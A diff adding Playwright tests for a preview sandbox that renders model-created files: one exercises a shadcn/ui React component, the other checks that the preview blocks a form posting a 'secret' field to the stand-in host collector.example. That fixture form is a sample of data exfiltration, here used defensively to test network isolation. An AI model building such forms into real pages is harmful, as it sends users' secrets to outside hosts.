@@ -464,3 +464,159 @@ export default function Toolbar() {
   const result = await resultOf(anthropic, 'toolu_create');
   expect(result).not.toContain('[error]');
 });
+
+test('a React component using the shadcn/ui command, sonner, form, carousel and resizable works as a person uses it', async ({
+  app,
+  anthropic,
+}) => {
+  const component = `import React, { useState } from 'react';
+import { useForm } from 'react-hook-form';
+import { toast } from 'sonner';
+import { Toaster } from '@/components/ui/sonner';
+import { Command, CommandInput, CommandList, CommandEmpty, CommandGroup, CommandItem } from '@/components/ui/command';
+import { Form, FormField, FormItem, FormLabel, FormControl, FormMessage } from '@/components/ui/form';
+import { Carousel, CarouselContent, CarouselItem, CarouselPrevious, CarouselNext } from '@/components/ui/carousel';
+import { ResizablePanelGroup, ResizablePanel, ResizableHandle } from '@/components/ui/resizable';
+import { Menubar, MenubarMenu, MenubarTrigger, MenubarContent, MenubarItem } from '@/components/ui/menubar';
+import { Input } from '@/components/ui/input';
+import { Button } from '@/components/ui/button';
+
+export default function Workbench() {
+  const [picked, setPicked] = useState('nothing');
+  const [greeting, setGreeting] = useState('');
+  const form = useForm({ defaultValues: { name: '' } });
+  return (
+    <div className="p-4 space-y-6 max-w-xl mx-auto">
+      <Toaster />
+      <Menubar>
+        <MenubarMenu>
+          <MenubarTrigger>File</MenubarTrigger>
+          <MenubarContent>
+            <MenubarItem onSelect={() => toast('Saved the draft')}>Save</MenubarItem>
+          </MenubarContent>
+        </MenubarMenu>
+      </Menubar>
+      <Command className="border">
+        <CommandInput placeholder="Type a command" />
+        <CommandList>
+          <CommandEmpty>No results.</CommandEmpty>
+          <CommandGroup heading="Tools">
+            <CommandItem onSelect={() => setPicked('calendar')}>Calendar</CommandItem>
+            <CommandItem onSelect={() => setPicked('calculator')}>Calculator</CommandItem>
+          </CommandGroup>
+        </CommandList>
+      </Command>
+      <p>Picked: {picked}</p>
+      <Form {...form}>
+        <form onSubmit={form.handleSubmit((values) => setGreeting('Hello, ' + values.name))} className="space-y-2">
+          <FormField
+            control={form.control}
+            name="name"
+            rules={{ required: 'Name is required' }}
+            render={({ field }) => (
+              <FormItem>
+                <FormLabel>Name</FormLabel>
+                <FormControl><Input {...field} /></FormControl>
+                <FormMessage />
+              </FormItem>
+            )}
+          />
+          <Button type="submit">Greet</Button>
+        </form>
+      </Form>
+      <p>{greeting}</p>
+      <Carousel className="mx-12" aria-label="Photos">
+        <CarouselContent>
+          {['One', 'Two', 'Three'].map((n) => <CarouselItem key={n}><div className="h-20 border">Slide {n}</div></CarouselItem>)}
+        </CarouselContent>
+        <CarouselPrevious />
+        <CarouselNext />
+      </Carousel>
+      <ResizablePanelGroup direction="horizontal" className="h-24 border">
+        <ResizablePanel defaultSize={50}>Left pane</ResizablePanel>
+        <ResizableHandle withHandle />
+        <ResizablePanel defaultSize={50}>Right pane</ResizablePanel>
+      </ResizablePanelGroup>
+    </div>
+  );
+}
+`;
+  await modelCreates(app, anthropic, 'Workbench.tsx', component);
+  const frame = preview(app, 'Workbench.tsx');
+
+  // The command list filters as the person types, and Enter picks the highlighted command.
+  const search = frame.getByPlaceholder('Type a command');
+  await search.fill('calc');
+  await expect(frame.getByRole('option', { name: 'Calculator' })).toBeVisible();
+  await expect(frame.getByRole('option', { name: 'Calendar' })).toBeHidden();
+  await search.press('Enter');
+  await expect(frame.getByText('Picked: calculator')).toBeVisible();
+  await search.fill('zzz');
+  await expect(frame.getByText('No results.')).toBeVisible();
+
+  // A menubar item calls sonner's own toast(), which the shadcn/ui Toaster shows.
+  await frame.getByRole('menuitem', { name: 'File' }).click();
+  await frame.getByRole('menuitem', { name: 'Save' }).click();
+  await expect(frame.getByText('Saved the draft')).toBeVisible();
+
+  // The form (react-hook-form) says what is missing, on the field, then submits.
+  const name = frame.getByRole('textbox', { name: 'Name' });
+  await frame.getByRole('button', { name: 'Greet' }).click();
+  await expect(frame.getByText('Name is required')).toBeVisible();
+  await expect(name).toHaveAttribute('aria-invalid', 'true');
+  await name.fill('Ada');
+  await frame.getByRole('button', { name: 'Greet' }).click();
+  await expect(frame.getByText('Hello, Ada')).toBeVisible();
+  await expect(frame.getByText('Name is required')).toBeHidden();
+
+  // The carousel moves to the next slide: the previous-slide button becomes usable.
+  const photos = frame.getByRole('region', { name: 'Photos' });
+  await expect(photos.getByRole('group')).toHaveCount(3);
+  await expect(photos.getByRole('button', { name: 'Previous slide' })).toBeDisabled();
+  await photos.getByRole('button', { name: 'Next slide' }).click();
+  await expect(photos.getByRole('button', { name: 'Previous slide' })).toBeEnabled();
+
+  // The resizable panels' handle moves with the arrow keys.
+  const handle = frame.getByRole('separator');
+  await expect(frame.getByText('Left pane')).toBeVisible();
+  await expect(handle).toHaveAttribute('aria-valuenow', '50');
+  await handle.focus();
+  await handle.press('ArrowRight');
+  await expect(handle).not.toHaveAttribute('aria-valuenow', '50');
+
+  const result = await resultOf(anthropic, 'toolu_create');
+  expect(result).not.toContain('[error]');
+  await expect(consoleRegion(app)).not.toContainText('error');
+});
+
+test('a form in a preview gets its submit event, and a submission to another host does not leave the page', async ({
+  app,
+  anthropic,
+}) => {
+  const page = `<!DOCTYPE html><html><body>
+<form id="note"><input name="text" aria-label="Note" value="milk"><button>Add</button></form>
+<p id="list">Nothing yet</p>
+<form action="https://collector.example/keep" method="post"><input name="secret" aria-label="Secret" value="s3cret"><button>Send away</button></form>
+<script>
+document.getElementById('note').addEventListener('submit', (event) => {
+  event.preventDefault();
+  document.getElementById('list').textContent = 'Added ' + new FormData(event.target).get('text');
+});
+</script></body></html>`;
+  await modelCreates(app, anthropic, 'forms.html', page);
+  const frame = preview(app, 'forms.html');
+  await frame.getByRole('button', { name: 'Add' }).click();
+  await expect(frame.getByText('Added milk')).toBeVisible();
+  // A form the page does not handle is not sent and the page stays, with one line saying where it was going;
+  // the suite's tripwire fails the test if anything reaches the network.
+  await frame.getByRole('button', { name: 'Send away' }).click();
+  await expect(consoleRegion(app)).toContainText('1 error');
+  await consoleRegion(app)
+    .getByRole('button', { name: /Console \(\d+\)/ })
+    .click();
+  await expect(consoleRegion(app).getByRole('list', { name: 'Console entries' })).toContainText(
+    'A form was not sent to https://collector.example/keep (previews have no network).',
+  );
+  await expect(frame.getByRole('button', { name: 'Send away' })).toBeVisible();
+  await expect(frame.getByText('Added milk')).toBeVisible();
+});
